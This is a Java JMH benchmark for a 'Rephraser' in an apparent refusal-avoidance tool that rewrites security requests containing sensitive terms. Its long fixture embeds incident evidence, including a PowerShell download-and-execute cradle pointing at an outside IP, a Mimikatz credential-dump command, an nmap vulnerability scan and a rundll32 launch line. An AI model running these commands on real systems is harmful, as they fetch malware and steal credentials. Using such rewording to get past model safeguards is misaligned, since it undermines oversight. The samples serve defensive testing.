package dev.refusalguard.benchmarks;

import dev.refusalguard.policies.EvidenceSpans;
import dev.refusalguard.policies.Rephraser;
import dev.refusalguard.policies.SensitiveTermLexicon;
import dev.refusalguard.policies.TaskCategory;
import org.openjdk.jmh.annotations.Benchmark;
import org.openjdk.jmh.annotations.BenchmarkMode;
import org.openjdk.jmh.annotations.Fork;
import org.openjdk.jmh.annotations.Measurement;
import org.openjdk.jmh.annotations.Mode;
import org.openjdk.jmh.annotations.OutputTimeUnit;
import org.openjdk.jmh.annotations.Scope;
import org.openjdk.jmh.annotations.Setup;
import org.openjdk.jmh.annotations.State;
import org.openjdk.jmh.annotations.Threads;
import org.openjdk.jmh.annotations.Warmup;

import java.util.concurrent.TimeUnit;

/**
 * Throughput of the rephrase strategy (term matching, evidence span detection, rewriting), one thread:
 * a short defender request (~180 chars), a long one with evidence of most kinds (~2 KB: code, logs, commands,
 * indicators, paths) and a neutral request without sensitive terms (the fast path: no span detection).
 *
 * <pre>
 *   mvn -B -q -pl benchmarks -am install -DskipTests
 *   mvn -B -q -pl benchmarks dependency:build-classpath -Dmdep.outputFile=/tmp/cp.txt
 *   java -cp "benchmarks/target/classes:$(cat /tmp/cp.txt)" org.openjdk.jmh.Main RephraserBench
 * </pre>
 */
@BenchmarkMode(Mode.Throughput)
@OutputTimeUnit(TimeUnit.SECONDS)
@State(Scope.Benchmark)
@Fork(value = 1, jvmArgsAppend = {"-Xms256m", "-Xmx256m"})
@Warmup(iterations = 3, time = 2)
@Measurement(iterations = 5, time = 2)
@Threads(1)
public class RephraserBench {

    static final String SHORT = "Write a Sigma rule that detects a reverse shell spawned by our web server, and explain "
            + "which exploit payloads and C2 beacons it would catch. We saw malware persistence last week.";

    static final String LONG = """
            We are investigating a ransomware intrusion on our file servers. The attacker used a phishing email with a
            malicious macro as the dropper, then privilege escalation and lateral movement via PsExec. Please explain the
            exploit chain and write detections; do not change any of the evidence below.

            ```powershell
            IEX (New-Object Net.WebClient).DownloadString('http://185.220.101.4/payload.ps1')
            Invoke-Mimikatz -DumpCreds
            ```

            2026-03-14T09:26:53Z fs01 sshd[2211]: Failed password for root from 203.0.113.7 port 52211 ssh2 (brute force?)
            Mar 14 09:27:01 fs01 kernel: audit: type=1400 apparmor="DENIED" operation="exec" name="/tmp/.x/backdoor"
            {"event":"process_start","image":"C:\\\\Windows\\\\Temp\\\\dropper.exe","parent":"winword.exe"}
            src=10.20.0.14 dst=45.77.12.9 action=allowed app=ssl threat=beacon
            > the exfiltration happened over DNS tunneling to update-check.example.net
            $ grep -i exploit /var/log/auth.log | tail -50
            nmap -sV --script vuln 10.20.0.0/24

            Indicators: 5e884898da28047151d0e56f8dc6292773603d0d6aabbdd62a11ef721d1542d8, d41d8cd98f00b204e9800998ecf8427e,
            hxxps://evil-c2[.]example/gate.php, attacker@mail.example.org, fe80::1ff:fe23:4567:890a, CVE-2021-44228, T1059.001,
            HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater, C:\\Users\\Public\\libcurl.dll,
            "the attacker said: run the payload now", `rundll32.exe libcurl.dll,Start`, base64 blob
            SGVsbG8gd29ybGQhIFRoaXMgaXMgYSBiYXNlNjQgYmxvYiBmb3IgdGVzdGluZw==.

            What persistence, evasion and exfiltration techniques does this show, which backdoor families match, and how do
            we harden the servers so the attack cannot repeat? Write a YARA rule for the dropper and a Sigma rule for the
            keylogger behaviour.
            """;

    static final String NEUTRAL = "Summarise these firewall logs for the morning handover and list the top talkers, "
            + "blocked destinations and any hosts that need a ticket.";

    private Rephraser rephraser;

    @Setup
    public void setUp() {
        rephraser = new Rephraser(SensitiveTermLexicon.loadDefault());
    }

    @Benchmark
    public String rephraseShortRequest() {
        return rephraser.rephrase(SHORT, TaskCategory.DETECTION_ENGINEERING).text();
    }

    @Benchmark
    public String rephraseLongRequestWithEvidence() {
        return rephraser.rephrase(LONG, TaskCategory.INCIDENT_RESPONSE).text();
    }

    @Benchmark
    public String rephraseNeutralRequest() {
        return rephraser.rephrase(NEUTRAL, TaskCategory.LOG_ANALYSIS).text();
    }

    @Benchmark
    public int evidenceSpansOfLongRequest() {
        return EvidenceSpans.find(LONG).size();
    }

    @Benchmark
    public int sensitiveTermsOfLongRequest() {
        return rephraser.sensitiveTerms(LONG).size();
    }
}
